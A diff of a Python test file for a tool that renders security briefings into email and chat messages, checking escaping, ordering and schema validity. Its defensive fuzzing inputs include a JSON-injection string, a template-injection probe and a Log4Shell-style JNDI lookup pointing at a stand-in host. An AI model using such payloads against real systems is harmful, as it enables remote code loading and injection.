@@ -13,13 +13,13 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 from jsonschema import Draft202012Validator
 from markdown_it import MarkdownIt
-from support.briefings import BARE, EN, JA, URL, saying, strings
 
 import hinomi.channels
 from hinomi import layout
 from hinomi.briefing import Line
 from hinomi.channels import CHANNELS
 from hinomi.model import Reason, Severity
+from support.briefings import BARE, EN, JA, URL, saying, strings
 
 if TYPE_CHECKING:
     from hinomi.briefing import Briefing
@@ -42,10 +42,30 @@ HOSTILE = (
     '"}],"blocks":[{"type":"section"}] \\" \\u0000',
     "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example/x}",
 )
-PIECES = (*HOSTILE, "あ", "火の見櫓。", "👨‍👩‍👧‍👦", "🇯🇵", "<", "&", '"', "\\", "](", "*", "_", "a b ", "é", "か\u3099", "\n")
+PIECES = (
+    *HOSTILE,
+    "あ",
+    "火の見櫓。",
+    "👨‍👩‍👧‍👦",
+    "🇯🇵",
+    "<",
+    "&",
+    '"',
+    "\\",
+    "](",
+    "*",
+    "_",
+    "a b ",
+    "é",
+    "か\u3099",
+    "\n",
+)
 
 _FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069]")
-_LINKED = re.compile(r"[a-z0-9]://|www\.|[^\s@]@[a-z0-9-]+\.|evil\.example|(?:javascript|data|mailto):\S", re.IGNORECASE)
+_LINKED = re.compile(
+    r"(?<!hxxp)(?<!hxxps)://|www\.|[^\s@]@[a-z0-9-]+\.|evil\.example|(?<![a-z0-9])(?:javascript|data|mailto):\S",
+    re.IGNORECASE,
+)
 _MENTION = re.compile(r"<[!@#][^>]*>|<at>|<[a-z]+:", re.IGNORECASE)
 
 channels = pytest.mark.parametrize("channel", CHANNELS, ids=[channel.NAME for channel in CHANNELS])
@@ -56,7 +76,9 @@ def shown(message: Message) -> list[str]:
     if message.channel == "email":
         texts = [message.subject, message.body]
     else:
-        texts = [text for text in strings(json.loads(message.body)) if not text.startswith("http://adaptivecards.io/")]
+        body = json.loads(message.body)
+        body.get("metadata", {}).pop("threadId", None)  # which nobody is shown
+        texts = [text for text in strings(body) if not text.startswith("http://adaptivecards.io/")]
     return [text.replace(URL, "") for text in texts]
 
 
@@ -70,7 +92,9 @@ def check(channel: Channel, briefing: Briefing) -> Message:
         assert not _FORBIDDEN.search(text), text
         assert not _LINKED.search(text), text
     if message.channel != "email":
-        Draft202012Validator(json.loads((SCHEMAS / f"{channel.NAME}.json").read_text())).validate(json.loads(message.body))
+        Draft202012Validator(json.loads((SCHEMAS / f"{channel.NAME}.json").read_text())).validate(
+            json.loads(message.body)
+        )
     return message
 
 
@@ -86,7 +110,7 @@ def is_within_limits(message: Message) -> bool:
 
 def test_the_channels_are_those_of_the_folder() -> None:
     folder = Path(hinomi.channels.__file__).parent
-    listed = {channel.__name__.rpartition(".")[2] for channel in CHANNELS}
+    listed = {name for name, value in vars(hinomi.channels).items() if value in CHANNELS}
     assert {path.stem for path in folder.glob("*.py")} - {"__init__"} == listed
     assert [channel.NAME for channel in CHANNELS] == ["email", "slack", "teams", "chime", "q"]
 
@@ -126,9 +150,9 @@ def test_everything_is_told_in_order(channel: Channel, briefing: Briefing) -> No
     parts = [briefing.headline, *(line.value for line in briefing.lines), briefing.quote, briefing.why]
     if message.channel != "q":  # whose steps stand in a list of their own
         parts += briefing.steps
-    places = [told.find(part.replace(" ", "")) for part in parts]
-    assert -1 not in places
-    assert places == sorted(places)
+    place = 0
+    for part in parts:
+        place = told.index(part.replace(" ", ""), place)
     assert all(part.replace(" ", "") in told for part in (*briefing.steps, briefing.reference, briefing.because))
     assert briefing.severity_label in told
     assert has_link(message)
@@ -156,11 +180,11 @@ def test_a_line_without_a_value_is_left_out(channel: Channel) -> None:
 
 @channels
 def test_a_hint_tells_how_many_lines_are_left_out(channel: Channel) -> None:
-    many = tuple(Line("対象", "あ" * 190) for _ in range(layout.ROOMS[0].lines + 7))
+    many = tuple(Line("対象", f"∀{'あ' * 190}") for _ in range(layout.ROOMS[0].lines + 7))
     body = check(channel, msgspec.structs.replace(JA, lines=many)).body
     hint = re.search(r"ほか (\d+) 行", body)
     assert hint
-    assert int(hint[1]) == len(many) - body.count("あ" * 90)
+    assert int(hint[1]) == len(many) - body.count("∀")
 
 
 @channels
@@ -172,16 +196,23 @@ def test_a_cut_quote_says_so(channel: Channel) -> None:
 @pytest.mark.parametrize("name", ["chime", "q"])
 @pytest.mark.parametrize("value", HOSTILE)
 def test_no_markdown_but_our_own_is_rendered(name: str, value: str) -> None:
-    channel = next(channel for channel in CHANNELS if channel.NAME == name)
+    channel = next(channel for channel in CHANNELS if name == channel.NAME)
     body = json.loads(channel.render(saying(value)).body)
     texts = [body["Content"].removeprefix("/md ")] if name == "chime" else strings(body["content"])
     for text in texts:
-        assert not _MENTION.search(text.replace("<", "<"))
+        assert not _MENTION.search(text)
         tokens = [token for block in MarkdownIt("commonmark").parse(text) for token in (block.children or [block])]
         assert {token.attrGet("href") for token in tokens if token.type == "link_open"} <= {URL}
-        assert not {token.type for token in tokens} & {"image", "code_inline", "html_inline", "html_block", "fence", "hr"}
-        bold = re.findall(r"\*+([^*]+)\*+", text)
-        assert set(bold) <= {*JA.labels.values(), "対象", JA.link.label if JA.link else "", layout_title(text)}
+        assert not {token.type for token in tokens} & {
+            "image",
+            "code_inline",
+            "html_inline",
+            "html_block",
+            "fence",
+            "hr",
+        }
+        ours = {*JA.labels.values(), "対象", "GuardDuty の検出結果を開く", layout_title(text)}
+        assert ours.issuperset(re.findall(r"\*+([^*]+)\*+", text))
 
 
 def layout_title(text: str) -> str:
